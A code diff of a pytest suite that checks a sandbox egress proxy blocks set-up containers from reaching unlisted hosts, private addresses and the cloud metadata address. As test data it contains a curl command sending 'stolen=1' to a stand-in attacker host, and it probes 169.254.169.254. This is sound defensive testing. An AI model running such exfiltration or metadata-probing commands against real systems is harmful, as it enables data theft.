@@ -1,24 +1,23 @@
-"""Attacks on the set-up network from inside set-up containers, on the real engine; and the proxy's life."""
+"""Attacks on the set-up network from inside set-up containers, on the real engine."""
 
 from __future__ import annotations
 
 import contextlib
-import json
 import socket
 import threading
-import time
 import uuid
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
+from dataclasses import replace
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
-from sandbox.egress import WINDOW_S, Allowed, Egress, networks
 from sandbox.engine import Engine
 from sandbox.environments import DockerSandbox
-from sandbox.errors import SetupFailed
-from sandbox.reaper import reap, remove_all
+from sandbox.errors import NetworkDenied, SetupFailed
+from sandbox.networks import labelled
+from sandbox.reaper import remove_all
 from sandbox.spec import Plan, Step
 from tests.sandbox.conftest import CA_BUNDLE, PRIVATE_HOSTS, STATE
 from tests.sandbox.trees import tree
@@ -63,14 +62,6 @@ def look(sandbox: DockerSandbox, script: str, shell: str = "python {0}", image: 
     return caught.value.log
 
 
-@pytest.fixture
-def egress(engine: Engine) -> Iterator[Egress]:
-    owner = f"tests-{uuid.uuid4().hex[:12]}"
-    yield Egress(engine, owner, Allowed(("pypi.org",)))
-    remove_all(engine, owner)
-    assert not networks(engine, f"heal.owner={owner}")
-
-
 def own_addresses() -> list[str]:
     """The addresses by which this machine would speak to the world, where it has a route there."""
     found = []
@@ -112,10 +103,21 @@ def test_system_packages_by_http(sandbox: DockerSandbox) -> None:
 
 
 def test_other_hosts_are_refused_and_named(sandbox: DockerSandbox) -> None:
-    """A host that is not listed gets 403, and the failed set-up's log says which host that was and why."""
-    log = look(sandbox, "curl -sS https://attacker.example.com/?stolen=1 || true", "bash -e {0}")
-    assert "403" in log
-    assert "the egress proxy refused: attacker.example.com (not on the allow-list)" in log
+    """A host that is not listed gets 403, and the failed set-up's log says which host that was and why. Only a step
+    that fails after a refusal of its own failed for want of the network."""
+    asks = "curl -sS https://attacker.example.com/?stolen=1 || true"
+    recipe = Plan("python", (Step("tells", asks), Step("asks", f"{asks}\nexit 9")), CHECK, trust=uuid.uuid4().hex)
+    with pytest.raises(NetworkDenied) as caught:
+        sandbox.prepare(recipe, tree())
+    assert caught.value.hosts == ("attacker.example.com",)
+    assert caught.value.step == "asks"
+    assert "403" in caught.value.log
+    assert "the egress proxy refused: attacker.example.com (not on the allow-list)" in caught.value.log
+    recipe = replace(recipe, setup=(Step("tells", asks), Step("breaks", "sleep 0.3; exit 9")))
+    with pytest.raises(SetupFailed) as caught_too:
+        sandbox.prepare(recipe, tree())
+    assert type(caught_too.value) is SetupFailed
+    assert "refused: attacker.example.com" in caught_too.value.log
 
 
 def test_refused_hosts_stay_with_the_environment(sandbox: DockerSandbox) -> None:
@@ -160,9 +162,8 @@ def test_nothing_is_reached_past_the_proxy(sandbox: DockerSandbox, host_server: 
     the route and past it (by binding to the device), and through the proxy container's address on the bridge.
     """
     assert sandbox.egress is not None
-    gate = sandbox.egress.gate()
-    proxy = engine.client().containers.get(gate.container).attrs["NetworkSettings"]["Networks"]["bridge"]
-    host = [sandbox.egress.gateway(gate), str(proxy["Gateway"]), *own_addresses()]
+    proxy = engine.client().containers.get(sandbox.egress.proxy()).attrs["NetworkSettings"]["Networks"]["bridge"]
+    host = [str(proxy["Gateway"]), *own_addresses()]
     targets = [(address, host_server) for address in host]
     targets += [("1.1.1.1", 443), ("203.0.113.80", 443), ("169.254.169.254", 80), (str(proxy["IPAddress"]), 3128)]
     script = DIRECT + (
@@ -226,7 +227,7 @@ def test_private_addresses_need_the_operators_word(sandbox: DockerSandbox, engin
     assert "refused: localhost (its address" in log
     assert "502" in log
     assert "refused: a.corp.test (its name does not resolve)" in log
-    made.engine.close()
+    made.close()
 
 
 def test_open_network_only_when_asked_for(sandbox: DockerSandbox, host_server: int) -> None:
@@ -243,7 +244,7 @@ print("PROXY", os.environ.get("HTTPS_PROXY"), "HOST", reaches(".".join(map(str, 
     assert "PROXY None HOST True" in log  # so the attacks above are real ones
     (finding,) = [finding for finding in made.doctor() if finding.what == "set-up network"]
     assert not finding.ok
-    made.engine.close()
+    made.close()
 
 
 def test_no_step_no_network(sandbox: DockerSandbox, engine: Engine) -> None:
@@ -252,9 +253,9 @@ def test_no_step_no_network(sandbox: DockerSandbox, engine: Engine) -> None:
     made = DockerSandbox(None, owner, state_dir=STATE)
     made.prepare(Plan("debian", (), CHECK), tree())
     assert not engine.containers(f"heal.owner={owner}")
-    assert not networks(engine, f"heal.owner={owner}")
+    assert not labelled(engine, f"heal.owner={owner}")
     remove_all(engine, owner)
-    made.engine.close()
+    made.close()
 
 
 def test_doctor_leaves_nothing(engine: Engine) -> None:
@@ -265,61 +266,5 @@ def test_doctor_leaves_nothing(engine: Engine) -> None:
     assert findings["set-up network"].ok
     assert findings["package hosts"].ok
     assert not engine.containers(f"heal.owner={owner}")
-    assert not networks(engine, f"heal.owner={owner}")
-    made.engine.close()
-
-
-def test_workers_that_ask_at_once_share_one_proxy(egress: Egress, engine: Engine) -> None:
-    """Of several workers that make the proxy at the same time one wins; the others use it and leave nothing."""
-    owner = egress._owner
-    workers = [egress, *(Egress(Engine(), owner, Allowed(("pypi.org",))) for _ in range(2))]
-    with ThreadPoolExecutor(4) as pool:
-        gates = set(pool.map(lambda worker: worker.gate(), [*workers, egress]))
-    for worker in workers[1:]:
-        worker._engine.close()
-    assert len(gates) == 1
-    assert set(engine.containers(f"heal.owner={owner}")) == {next(iter(gates)).container}
-    assert set(networks(engine, f"heal.owner={owner}")) == {next(iter(gates)).network}
-    started = time.monotonic()
-    assert egress.gate() in gates
-    assert time.monotonic() - started < 0.2
-
-
-def test_another_allow_list_another_proxy(egress: Egress, engine: Engine) -> None:
-    """A changed allow-list makes a new proxy and network; the old one's clients keep theirs."""
-    first = egress.gate()
-    second = Egress(engine, egress._owner, Allowed(("pypi.org", "more.example.org"))).gate()
-    assert first.container != second.container
-    assert first.network != second.network
-    assert egress.gate() == first
-
-
-def test_a_dead_proxy_is_replaced(egress: Egress, engine: Engine) -> None:
-    """A proxy that has ended, or was removed, is made again."""
-    first = egress.gate()
-    engine.client().containers.get(first.container).kill()
-    second = egress.gate()
-    assert second.container != first.container
-    assert set(networks(engine, f"heal.owner={egress._owner}")) == {second.network}
-
-
-def test_the_reaper_takes_a_proxy_only_when_its_time_is_over(egress: Egress, engine: Engine) -> None:
-    """For a whole window after the last set-up it may serve, the reaper leaves it; then container and network go."""
-    now = time.time()
-    gate = egress.gate()
-    owner = egress._owner
-    assert reap(engine, owner, now + WINDOW_S - 60).containers == 0
-    assert egress.gate() == gate
-    reaped = reap(engine, owner, now + 2 * WINDOW_S + 60)
-    assert (reaped.containers, reaped.networks) == (1, 1)
-
-
-def test_the_proxy_is_bound_by_its_container(egress: Egress, engine: Engine) -> None:
-    """The running proxy has no capability and does not route for its clients."""
-    gate = egress.gate()
-    script = "grep -E '^(CapBnd|NoNewPrivs)' /proc/1/status; cat /proc/sys/net/ipv4/ip_forward; id -u"
-    seen = engine.client().containers.get(gate.container).exec_run(["sh", "-c", script]).output
-    assert isinstance(seen, bytes)
-    assert seen.decode().split() == ["CapBnd:", "0" * 16, "NoNewPrivs:", "1", "0", "1000"]
-    log = engine.client().containers.get(gate.container).logs().decode().splitlines()
-    assert json.loads(log[0]) == {"ready": 3128}
+    assert not labelled(engine, f"heal.owner={owner}")
+    made.close()
